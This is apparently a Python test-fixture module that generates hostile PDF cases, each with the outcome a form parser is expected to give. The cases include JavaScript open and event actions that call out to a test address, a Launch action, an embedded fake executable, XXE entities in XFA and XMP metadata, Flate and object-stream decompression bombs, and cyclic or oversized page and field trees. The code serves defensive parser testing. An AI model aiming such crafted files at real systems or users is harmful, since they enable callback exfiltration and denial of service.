"""PDF cases: active content (JavaScript, launch, embedded files, XFA), encryption, loops in
the page and field trees, huge trees and values, XMP with an XXE or a Flate bomb, an object
stream bomb, damage."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf

from . import forge as F
from .corpus import ANY, ISSUES, READ, READS, REJECTED, Ctx, case

# --------------------------------------------------------------------------- PDF


def _pdf_case(name: str, kind: str, expect: tuple[str, ...], fragment: str,
              edit: Callable[[Ctx, pikepdf.Pdf], Any], *, xfail: str | None = None,
              **save: Any) -> None:
    def build(ctx: Ctx, path: Path) -> None:
        tmp = ctx.pdf(name, ctx.folder / f".{name}")
        with pikepdf.open(tmp) as pdf:
            edit(ctx, pdf)
            pdf.save(path, **save)
        tmp.unlink()
    case(name, kind, expect, fragment, xfail=xfail, reader="pdf")(build)


def _js(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.launchURL('{ctx.net}');")))


def _first_widget(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return next(a for a in pdf.pages[0].obj.Annots if a.get("/Subtype") == pikepdf.Name.Widget)


def _launch(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    _first_widget(pdf).A = pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                              F=pikepdf.String(str(ctx.canary)))


def _uri(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    link = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 50, 50],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(ctx.canary_uri))))
    pdf.pages[0].obj.Annots.append(link)


def _embedded(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really")


def _doc_aa(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.submitForm('" + ctx.net + "')")))


def _xfa(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    xdp = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "' + ctx.canary_uri.encode()
           + b'">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&xxe;</xdp:xdp>')
    pdf.Root.AcroForm.XFA = pdf.make_stream(xdp)


def _cyclic_pages(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    pages = pdf.Root.Pages
    pages.Kids.append(pages)
    pages.Count = 99


def _kids_many(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    page = pdf.Root.Pages.Kids[0]
    pdf.Root.Pages.Kids = pikepdf.Array([page] * 200_000)
    pdf.Root.Pages.Count = 200_000


def _fields_loop(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    fields = pdf.Root.AcroForm.Fields
    loop = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("loop")))
    inner = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("inner"), Parent=loop))
    loop.Kids = pikepdf.Array([inner, fields[0]])
    inner.Kids = pikepdf.Array([loop])
    fields.append(loop)
    fields[0].Kids = pikepdf.Array([fields[0], loop])


def _fields_many(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    fields = pdf.Root.AcroForm.Fields
    for i in range(20_000):
        fields.append(pikepdf.Dictionary(T=pikepdf.String(f"f{i}"), FT=pikepdf.Name.Tx))


def _no_info(pdf: pikepdf.Pdf) -> None:
    for key in list(pdf.docinfo.keys()):
        if "bluestone" in str(key):
            del pdf.docinfo[key]


def _xmp_xxe(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    _no_info(pdf)
    xmp = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "' + ctx.canary_uri.encode()
           + b'">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/'
           b'1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:bluestone="urn:bluestone-forms:'
           b'identity:1.0/"><bluestone:form-id>&xxe;</bluestone:form-id></rdf:Description>'
           b"</rdf:RDF></x:xmpmeta>")
    pdf.Root.Metadata = pdf.make_stream(xmp, Type=pikepdf.Name.Metadata,
                                        Subtype=pikepdf.Name.XML)


def _xmp_bomb(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    _no_info(pdf)
    comp = zlib.compressobj(1)
    chunk = b" " * (16 * 1024 * 1024)
    data = b"".join(comp.compress(chunk) for _ in range(16)) + comp.flush()
    stream = pdf.make_stream(b"")
    stream.write(data, filter=pikepdf.Name.FlateDecode)
    pdf.Root.Metadata = stream


def _huge_value(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    for f in pdf.Root.AcroForm.Fields:
        if str(f.get("/T", "")) == "crime_ref":
            f.V = pikepdf.String("A" * (40 * 1024 * 1024))


def _control_value(ctx: Ctx, pdf: pikepdf.Pdf) -> None:
    for f in pdf.Root.AcroForm.Fields:
        if str(f.get("/T", "")) == "crime_ref":
            f.V = pikepdf.String("WM\x01-40917\x1f-26\x00")


_pdf_case("js_openaction.pdf", "JavaScript run on open (/OpenAction /JS)", ISSUES,
          "active content", _js)
_pdf_case("launch_action.pdf", "a /Launch action on a form field", ISSUES, "launch", _launch)
_pdf_case("uri_file_link.pdf", "a link annotation to file:// (never followed)", READ, "", _uri)
_pdf_case("embedded_file.pdf", "an embedded executable", ISSUES, "embedded", _embedded)
_pdf_case("document_actions.pdf", "document event actions (/AA) with JavaScript", ISSUES,
          "event actions", _doc_aa)
_pdf_case("xfa_xxe.pdf", "an XFA stream with an XXE (never parsed)", ISSUES, "XFA", _xfa)
_pdf_case("encrypted_user.pdf", "encrypted with a user password (AES-256)", REJECTED,
          "encrypted", lambda c, p: None,
          encryption=pikepdf.Encryption(user="secret", owner="owner", R=6))
_pdf_case("encrypted_owner_only.pdf", "encrypted with only an owner password (opens without "
          "one)", READS, "", lambda c, p: None,
          encryption=pikepdf.Encryption(user="", owner="owner", R=6))
_pdf_case("cyclic_pages.pdf", "the /Pages tree contains itself (pypdf #3847: SIGSEGV)",
          REJECTED, "twice|loop", _cyclic_pages)
_pdf_case("kids_200k.pdf", "/Kids holding one page 200,000 times", REJECTED,
          "more than 2000 pages", _kids_many)
_pdf_case("fields_loop.pdf", "AcroForm /Kids that loop back to their ancestors", READS, "",
          _fields_loop)
_pdf_case("fields_20k.pdf", "20,000 form fields", REJECTED, "more than", _fields_many)
_pdf_case("xmp_xxe.pdf", "identity only in XMP metadata, which has an XXE", REJECTED,
          "no form id", _xmp_xxe)
_pdf_case("xmp_flate_bomb.pdf", "identity only in XMP metadata, a 256 MB Flate bomb", REJECTED,
          "no form id", _xmp_bomb)
_pdf_case("huge_value.pdf", "a 40 MB answer in one field", ISSUES + REJECTED,
          "at most|too large", _huge_value, compress_streams=True,
          object_stream_mode=pikepdf.ObjectStreamMode.generate)
_pdf_case("control_chars.pdf", "control characters (U+0001, U+001F, NUL) in an answer",
          READS, "", _control_value)


@case("truncated.pdf", "a PDF cut in half", REJECTED, "truncated|damaged")
def _truncated_pdf(ctx: Ctx, path: Path) -> None:
    data = ctx.pdf("truncated.pdf", ctx.folder / ".t.pdf").read_bytes()
    path.write_bytes(data[: len(data) // 2])


@case("size_2g.pdf", "trailer /Size 2,147,483,647 (pypdf CVE-2026-22690)", ANY)
def _size(ctx: Ctx, path: Path) -> None:
    data = ctx.pdf("size_2g.pdf", ctx.folder / ".s.pdf").read_bytes()
    at = data.rindex(b"/Size ")
    end = at + 6
    while data[end:end + 1].isdigit():
        end += 1
    path.write_bytes(data[:at] + b"/Size 2147483647" + data[end:])


@case("junk.pdf", "%PDF-1.7, random bytes, %%EOF", REJECTED, "damaged|no form id|not a")
def _junk(ctx: Ctx, path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n" + random.Random(3).randbytes(30_000) + b"\n%%EOF\n")


@case("objstm_bomb.pdf", "an object stream (holding the document info) inflating 1 GB",
      REJECTED, "inflates to more than")
def _objstm(ctx: Ctx, path: Path) -> None:
    F.objstm_bomb(path, 1024 * 1024 * 1024)


@case("objstm_escaped_bomb.pdf", "the same bomb, its /Type written /Obj#53tm (still an object "
      "stream to qpdf)", REJECTED, "inflates to more than")
def _objstm_escaped(ctx: Ctx, path: Path) -> None:
    F.objstm_bomb(path, 256 * 1024 * 1024, type_name=b"/Obj#53tm")
